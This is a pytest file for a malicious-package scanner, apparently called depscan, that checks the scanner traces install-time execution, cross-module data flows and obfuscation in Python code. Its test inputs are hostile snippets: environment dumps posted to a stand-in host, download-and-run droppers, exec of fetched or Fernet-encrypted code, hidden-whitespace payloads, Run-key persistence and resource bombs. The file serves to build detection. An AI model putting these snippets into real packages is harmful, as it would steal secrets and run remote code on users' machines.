"""A whole package: when code runs, across modules, what flows through files, and that it always ends."""

from __future__ import annotations

import time

import pytest

from depscan.artifacts.artifact import Artifact, Member
from depscan.artifacts.entry import Entry
from depscan.artifacts.surface import Surface
from depscan.facts.fact import Fact
from depscan.facts.python import read_python, read_python_text
from depscan.facts.sink import Sink

HOST = "https://collect.example.invalid/a"


def _read(files: dict[str, str], **when: str) -> Sink:
    members = tuple(Member(path, len(text), lambda t=text: t.encode()) for path, text in files.items())  # type: ignore[misc]
    entries = tuple(
        Entry(path, "install" if path == "setup.py" else when.get(path.rpartition("/")[2][:-3], "import"), "python", "")
        for path in files
    )
    modules = {
        path.removesuffix(".py").removesuffix("/__init__").replace("/", "."): path
        for path in files
        if path != "setup.py"
    }
    sink = Sink()
    read_python(Artifact("x", "sdist", "x", "1", members, ()), Surface(entries, modules, ()), sink)
    return sink


def _text(text: str, when: str = "import") -> Sink:
    sink = Sink()
    read_python_text(text, path="a.py", line=0, when=when, layer=(), sink=sink)
    return sink


def _one(sink: Sink, what: str) -> Fact:
    found = [fact for fact in sink.facts if fact.what == what]
    assert found, [fact.what for fact in sink.facts]
    return found[0]


def _comes_from(sink: Sink, fact: Fact, what: str) -> bool:
    todo, seen = list(fact.sources), set()
    while todo:
        index = todo.pop()
        if index in seen:
            continue
        seen.add(index)
        if sink.facts[index].what == what:
            return True
        todo.extend(sink.facts[index].sources)
    return False


def test_methods_of_a_command_class_run_at_installation() -> None:
    sink = _read(
        {
            "setup.py": "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n"
            "class Now(install):\n    def run(self):\n        install.run(self)\n        os.system('id')\n"
            "kw = dict(cmdclass={'install': Now})\nsetup(name='x', **kw)\n"
        }
    )
    fact = _one(sink, "process.spawn")
    assert (fact.when, fact.line, fact.values, fact.scope) == ("install", 7, ("id",), "Now.run")


def test_what_setup_py_imports_of_the_package_runs_at_installation() -> None:
    sink = _read(
        {
            "setup.py": "from x.core import go\ngo()\n",
            "x/__init__.py": "",
            "x/core.py": "import subprocess\ndef go():\n    subprocess.run(['id'])\n",
        }
    )
    fact = _one(sink, "process.spawn")
    assert (fact.when, fact.path) == ("install", "x/core.py")


def test_a_flow_over_three_modules_is_one_flow() -> None:
    sink = _read(
        {
            "x/__init__.py": "from .a import gather\nfrom . import b\nb.deliver(gather())\n",
            "x/a.py": "import os\ndef gather():\n    return dict(os.environ)\n",
            "x/b.py": f"import requests\nURL = {HOST!r}\ndef deliver(d):\n    requests.post(URL, json=d)\n",
        }
    )
    fact = _one(sink, "net.send")
    assert fact.when == "import"
    assert fact.values == (HOST,)
    assert _comes_from(sink, fact, "env.dump")


def test_a_function_nobody_calls_runs_when_it_is_called() -> None:
    assert _one(_text("import os\ndef f():\n    os.system('id')\n"), "process.spawn").when == "call"


def test_a_main_block_runs_when_it_is_called() -> None:
    assert _one(_text("import os\nif __name__ == '__main__':\n    os.system('id')\n"), "process.spawn").when == "call"


def test_what_is_downloaded_written_and_started_is_one_flow() -> None:
    sink = _text(
        "import urllib.request, subprocess, os\np = os.path.join(os.getenv('TEMP'), 'a.exe')\n"
        "with open(p, 'wb') as f:\n    f.write(urllib.request.urlopen('https://files.example.invalid/a').read())\n"
        "subprocess.Popen([p])\n"
    )
    fact = next(f for f in sink.facts if f.what == "process.spawn" and f.callee == "subprocess.Popen")
    assert fact.values == ("%TEMP%/a.exe",)
    assert _comes_from(sink, fact, "net.download")


def test_an_unknown_path_is_itself_wherever_it_goes() -> None:
    sink = _text(
        "import os, requests\ndef f(url, p):\n    open(p, 'wb').write(requests.get(url).content)\n    os.startfile(p)\n"
    )
    assert _comes_from(sink, _one(sink, "process.spawn"), "net.download")


def test_a_secret_parameter_is_a_source_when_it_is_sent() -> None:
    sink = _text(f"import requests\ndef sign(private_key):\n    requests.post({HOST!r}, data={{'k': private_key}})\n")
    assert _comes_from(sink, _one(sink, "net.send"), "secret.parameter")
    assert not _text("def sign(private_key):\n    return private_key\n").facts


def test_code_that_came_over_the_network_is_seen_to_run() -> None:
    sink = _text("import requests\nexec(requests.get('https://files.example.invalid/x').text)\n")
    assert _comes_from(sink, _one(sink, "code.eval"), "net.download")


def test_a_fernet_token_is_opened_with_the_key_beside_it() -> None:
    sink = _text(
        "from cryptography.fernet import Fernet\n"
        "exec(Fernet(b'AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=').decrypt("
        "b'gAAAAAAAAAAAAAECAwQFBgcICQoLDA0ODy8udWezRidrO4ZjC4LHSt331Fhpy-6sjE8wbS2A0PmkY_UvlXu9Mfd9o9GSGWt83lXALy5IlZ3sF-XVcpYKRaA='))\n"
    )
    assert [f.layer for f in sink.facts if f.what == "process.spawn"][:1] == [("fernet",)]


def test_guards_say_under_which_condition_a_fact_stands() -> None:
    sink = _text("import os\nif os.name == 'nt':\n    os.system('a')\nif 'CI' not in os.environ:\n    os.system('b')\n")
    assert {f.values[0]: f.guards for f in sink.facts if f.callee == "os.system"} == {
        "a": ("os:nt", "answer:unused"),
        "b": ("ci", "answer:unused"),
    }


def test_an_autostart_entry_is_persistence() -> None:
    sink = _text(
        "import winreg, sys\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
        "winreg.SetValueEx(k, 'x', 0, 1, sys.executable)\n"
    )
    assert "persist" in {f.what for f in sink.facts}


def test_python_2_is_read() -> None:
    sink = _text("import os\nprint 'x'\ntry:\n    os.system('id')\nexcept Exception, e:\n    exec \"x = 0777\"\n")
    assert _one(sink, "process.spawn").line == 4


def test_what_does_not_parse_still_gives_its_calls_and_says_so() -> None:
    sink = _text(
        "import os as o, base64\ndef f(:\n    o.system('id')\nx = = 1\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    )
    assert {"process.spawn", "code.eval"} <= {f.what for f in sink.facts}


def test_names_made_of_letters_of_builtins_are_followed() -> None:
    sink = _text("getattr(__import__('os'), oct.__str__()[10] + 'ystem')('id')\n".replace("oct.__str__()[10]", "'s'"))
    assert _one(sink, "process.spawn").values == ("id",)
    assert _one(
        _text("exec(getattr(__builtins__, oct.__str__()[-3] + hex.__str__()[-4] + 'r')(49))"), "code.eval"
    ).values == ("1",)


def test_code_far_to_the_right_is_hidden_text() -> None:
    sink = _text("x = 1" + " " * 300 + ";import os;os.system('id')\n")
    assert _one(sink, "text.hidden").values[0] == "blanks"


def test_a_large_module_keeps_its_line_numbers_when_harmless_parts_are_left_out() -> None:
    harmless = "".join(f"def f{i}(a):\n    return a + {i}\n\n\n" for i in range(2000))
    sink = _read({"x.py": harmless + "import os\ndef g():\n    os.system('id')\n\n\n" + harmless}, x="call")
    assert _one(sink, "process.spawn").line == 8003


def test_thousands_of_decoys_do_not_hide_the_payload() -> None:
    decoys = "".join(f"requests.get('https://a{i}.example.invalid')\n" for i in range(3000))
    sink = _text(f"import os, requests\n{decoys}requests.post({HOST!r}, data=dict(os.environ))\n")
    assert _comes_from(sink, _one(sink, "net.send"), "env.dump")


@pytest.mark.parametrize(
    "bomb",
    [
        "x = 'a'\nwhile True:\n    x += x\n",
        "x = 'a' * 10**9\ny = 9**9**9\nz = '%999999999d' % 1\nw = '{:>999999999}'.format(1)\n",
        "def f(n):\n    return f(n) + f(n + 1)\nf(0)\n",
        "for i in range(10**9):\n    for j in range(10**9):\n        pass\n",
        "x = " + "(" * 150 + "1" + ")" * 150,
        "x = " + "+".join(["'a'"] * 5000),
        "x = [1]\nfor i in range(40):\n    x = [x, x, x, x]\nprint(x)\n",
        "x = 'exec(x)'\nexec(x)\n",
        "s = 'import base64;exec(s)'\nexec(s)\n",
        "lambda: " * 80 + "1",
        "x = {}\nx['x'] = x\nprint(str(x))\nimport requests\nrequests.post('https://a.example.invalid', json=x)\n",
        "class A:\n    def __getattr__(self, n):\n        return self.x\nA().y\n",
        "bytes(10**12)\nlist(range(10**12))\n'x'.ljust(10**12)\n(10**9).to_bytes(10**9, 'big')\n",
        "import zlib, base64\nzlib.decompress(b'x' * 100)\nbase64.b64decode('====')\n",
        "print 1" * 400,
    ],
)  # fmt: skip
def test_a_bomb_ends_soon(bomb: str) -> None:
    start = time.process_time()
    _text(bomb + "\nimport os\nos.system('id')\n")
    assert time.process_time() - start < 5


def test_the_same_text_gives_the_same_facts() -> None:
    text = f"import os, requests\ndef f(a, b):\n    return a or b\nrequests.post({HOST!r}, f(dict(os.environ), {{1, 2}}))\n"
    assert _text(text).facts == _text(text).facts
